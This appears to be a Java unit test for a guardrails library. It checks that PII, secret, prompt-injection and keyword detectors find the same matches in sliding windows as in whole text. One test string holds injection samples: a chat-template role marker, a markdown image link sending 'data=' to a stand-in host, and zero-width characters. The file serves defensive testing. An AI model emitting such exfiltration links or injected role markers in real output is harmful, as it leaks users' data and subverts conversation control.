package dev.gatehouse.guardrails.detect.builtin;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.dialect.text.TextField;
import dev.gatehouse.guardrails.detect.Detector;
import dev.gatehouse.guardrails.detect.Detector.Finding;
import dev.gatehouse.guardrails.detect.pii.PiiDetectors;
import dev.gatehouse.guardrails.detect.secret.SecretDetectors;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;

/// A window of `usual()` characters on either side of a place shows what the whole text shows
/// there, where it is written plainly.
class LongestTest {
    private static final TextField.Role ROLE = TextField.Role.ASSISTANT;

    @Test
    void personal_data_needs_no_more_than_it_states() throws IOException {
        var text = new StringBuilder();
        for (String kind : PiiDetectors.kinds()) {
            List<Sample> samples = Sample.read("pii/" + kind + ".tsv");
            text.append(samples.get(3).text())
                    .append('\n')
                    .append(samples.get(7).text())
                    .append(". ");
        }
        windowsShowTheSame(of("pii", Set.of("all")), text.toString());
    }

    @Test
    void secrets_need_no_more_than_they_state() {
        var kinds = new TreeSet<>(SecretDetectors.kinds());
        kinds.remove("private-key");
        var text = new StringBuilder();
        for (String kind : kinds) {
            text.append(new SecretSamples(kind).all().get(3).text()).append('\n');
        }
        Detector detector = of("secrets", kinds);

        assertThat(detector.usual()).isLessThanOrEqualTo(512);
        windowsShowTheSame(detector, text.toString());
    }

    @Test
    void structures_of_injections_need_no_more_than_they_state() {
        windowsShowTheSame(
                of(
                        "injection",
                        Set.of("canary", "role-marker", "exfiltration-link", "invisible-text")),
                "the blue  heron flies <|im_start|> ![a](https://x.example/?data="
                        + "abc".repeat(20)
                        + ") end\u200b\u200bof it, blue heron. ".repeat(12));
    }

    @Test
    void words_and_patterns_need_no_more_than_they_state() {
        String text = "An acme   corp ticket AC-1234, AC-99999 of Ac\u200bme corp. ".repeat(6);
        windowsShowTheSame(of("words", Set.of()), text);
        windowsShowTheSame(
                Detectors.of(
                        "patterns",
                        new Detectors.Options(
                                Set.of(), List.of(), Map.of("ticket", "AC-\\d{4,6}"), Set.of(), 0)),
                text);
    }

    private static Detector of(String name, Set<String> kinds) {
        return Detectors.of(
                name,
                new Detectors.Options(
                        kinds, List.of("acme corp", "blue heron"), Map.of(), Set.of(), 0));
    }

    private static void windowsShowTheSame(Detector detector, String text) {
        List<Finding> whole = detector.find(text, ROLE);
        var windowed = new ArrayList<Finding>();
        int longest = detector.usual();
        for (int at = 0; at < text.length(); at++) {
            int from = Math.max(0, at - longest);
            String window = text.substring(from, Math.min(text.length(), at + longest));
            for (Finding found : detector.find(window, ROLE)) {
                if (from + found.start() == at) {
                    windowed.add(new Finding(found.kind(), at, from + found.end(), found.score()));
                }
            }
        }
        assertThat(whole).isNotEmpty();
        assertThat(windowed).isEqualTo(whole);
    }
}
